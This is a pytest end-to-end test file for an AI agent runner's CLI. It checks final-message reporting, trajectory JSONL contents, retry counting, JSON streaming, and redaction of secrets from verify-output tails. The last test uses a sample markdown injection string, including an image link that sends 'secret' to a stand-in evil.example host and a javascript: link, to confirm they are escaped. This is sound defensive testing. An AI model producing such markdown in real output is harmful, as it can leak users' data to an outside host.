"""The run as a record for people and programs (issue 16): the final message everywhere, the
trajectory as a complete record, `--json`, verify output tails. Through the CLI, with the real SDK
against the fake Messages API (priced usage) and the local sandbox.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from runner import __version__
from runner.models import base as models_base
from runner.models.base import Usage
from runner.models.pricing import load_prices
from runner.reports.summary import md_literal, quote_md
from runner.reports.trajectory import SCHEMA_VERSION
from tests.e2e.test_api_e2e import API_KEY, FIX_TURNS, MODEL, cli_env, result, setup_task
from tests.fakes.messages_api import FakeMessagesAPI

FINAL = FIX_TURNS[-1]["text"]


def cli(task: Path, env: dict[str, str], *flags: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "runner", "run", str(task), *flags], capture_output=True, text=True,
                          env=env, cwd=task.parent, timeout=120)


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_final_message_in_result_summary_and_console(tmp_path: Path) -> None:
    task, _, out = setup_task(tmp_path)
    with FakeMessagesAPI(FIX_TURNS, api_key=API_KEY) as api:
        proc = cli(task, cli_env(api, tmp_path))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert result(out)["final_message"] == FINAL
    summary = (out / "summary.md").read_text()
    assert "### Final message" in summary and quote_md(FINAL) in summary
    last = proc.stdout.strip().splitlines()[-1]
    assert last.strip() == f"final message: {FINAL}"


def test_trajectory_first_event_rebuilds_the_conversation(tmp_path: Path) -> None:
    turns = [{**FIX_TURNS[0], "thinking": "The tests will tell me where it breaks."}, *FIX_TURNS[1:]]
    task, _, out = setup_task(tmp_path, model_options={"max_output_tokens": 8000})
    with FakeMessagesAPI(turns, api_key=API_KEY) as api:
        proc = cli(task, cli_env(api, tmp_path))
        first_request = api.requests[0]
    assert proc.returncode == 0, proc.stdout + proc.stderr
    events = lines(out / "trajectory.jsonl")
    head = events[0]
    assert head["type"] == "run_started" and head["schema_version"] == SCHEMA_VERSION
    assert head["astra_run_version"] == __version__ and head["model"] == MODEL
    assert head["model_options"]["max_output_tokens"] == 8000
    assert head["base_commit"] and head["limits"]["max_turns"] == 50
    # what the API was sent can be rebuilt from the header alone
    assert first_request["system"][0]["text"] == head["system"]
    assert [t["name"] for t in first_request["tools"]] == [t["name"] for t in head["tools"]]
    assert first_request["tools"][0]["input_schema"] == head["tools"][0]["input_schema"]
    assert first_request["messages"][0]["content"][0]["text"] == head["task_message"]
    assert [e["type"] for e in events].count("run_started") == 1
    assert "agent_ready" not in [e["type"] for e in events]
    # setup events come after the header, in order, with their own times
    kinds = [e["type"] for e in events]
    assert "sandbox_ready" in kinds[1:kinds.index("model_turn")]
    times = [e["t"] for e in events[1:]]
    assert times == sorted(times)
    turns_seen = [e for e in events if e["type"] == "model_turn"]
    # every content block the model client keeps (thinking too, once runner.models keeps it)
    kinds = [b["type"] for b in turns_seen[0]["content"]]
    if hasattr(models_base, "ThinkingBlock"):
        assert kinds[0] == "thinking" and turns_seen[0]["content"][0]["thinking"] == turns[0]["thinking"]
        kinds = kinds[1:]
    assert kinds == ["text", "tool_use"]
    assert turns_seen[0]["content"][-1]["input"] == FIX_TURNS[0]["tool_calls"][0]["input"]
    assert turns_seen[0]["content"][-2]["text"] == FIX_TURNS[0]["text"]
    # cost per turn and so far are separate: the per-turn costs add up to the run's
    prices = load_prices()
    for seen, turn in zip(turns_seen, FIX_TURNS, strict=True):
        assert seen["cost_usd"] == pytest.approx(prices.total({MODEL: Usage(**turn["usage"])}))
    assert sum(e["cost_usd"] for e in turns_seen) == pytest.approx(result(out)["cost_usd"])
    assert turns_seen[-1]["cumulative_cost_usd"] == pytest.approx(result(out)["cost_usd"])
    assert turns_seen[0]["cumulative_cost_usd"] < turns_seen[1]["cumulative_cost_usd"]


def test_sdk_retries_are_counted_in_the_trajectory(tmp_path: Path) -> None:
    task, _, out = setup_task(tmp_path)
    script = [{"error": {"status": 529}}, *FIX_TURNS]
    with FakeMessagesAPI(script, api_key=API_KEY) as api:
        proc = cli(task, cli_env(api, tmp_path))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    turns = [e for e in lines(out / "trajectory.jsonl") if e["type"] == "model_turn"]
    assert [t["retries"] for t in turns] == [1, 0, 0]


def test_json_streams_the_trajectory_on_stdout(tmp_path: Path) -> None:
    task, _, out = setup_task(tmp_path)
    with FakeMessagesAPI(FIX_TURNS, api_key=API_KEY) as api:
        proc = cli(task, cli_env(api, tmp_path), "--json")
    assert proc.returncode == 0, proc.stderr
    streamed = [json.loads(line) for line in proc.stdout.splitlines()]  # nothing but JSON lines
    assert streamed == lines(out / "trajectory.jsonl")
    assert streamed[0]["type"] == "run_started" and streamed[-1]["type"] == "run_finished"
    assert "[astra]" not in proc.stdout and "final message" not in proc.stdout


def test_failed_verify_output_tail_is_capped_redacted_and_shown(tmp_path: Path) -> None:
    secret = "hunter2-secret-value-0123456789"
    check = ("python -c \"import os; print('x' * 20000); print('LAST LINE', os.environ['TOKEN_VALUE'])\"; "
             "exit 3")
    task, _, out = setup_task(tmp_path, verify=[{"name": "noisy <b>check</b>", "run": check}],
                              sandbox={"backend": "local", "env": {"TOKEN_VALUE": "${HOST_SECRET}"}})
    with FakeMessagesAPI(FIX_TURNS, api_key=API_KEY) as api:
        proc = cli(task, cli_env(api, tmp_path, HOST_SECRET=secret))
    assert proc.returncode == 1, proc.stdout + proc.stderr
    tail = result(out)["verify"][0]["output_tail"]
    assert "LAST LINE" in tail and secret not in tail and len(tail) < 4200 and "earlier characters cut" in tail
    summary = (out / "summary.md").read_text()
    assert "LAST LINE" in summary and secret not in summary
    assert "Output of noisy &lt;b&gt;check&lt;/b&gt;" in summary


def test_md_literal_keeps_model_text_inert() -> None:
    text = "Done @alice, see #12. ![x](https://evil.example/?q=secret) <img src=x> [a](javascript:1) | x"
    out = md_literal(text)
    # every ASCII punctuation mark is escaped: nothing is markup any more
    assert not re.search(r"(?<!\\)[!\[\]()<>|@#]", out.replace("\\\\", ""))
    assert "@alice" not in out and "#12" not in out  # broken by a zero-width space: no notification
    assert "\\!\\[x\\]" in out and "\\<img src" in out
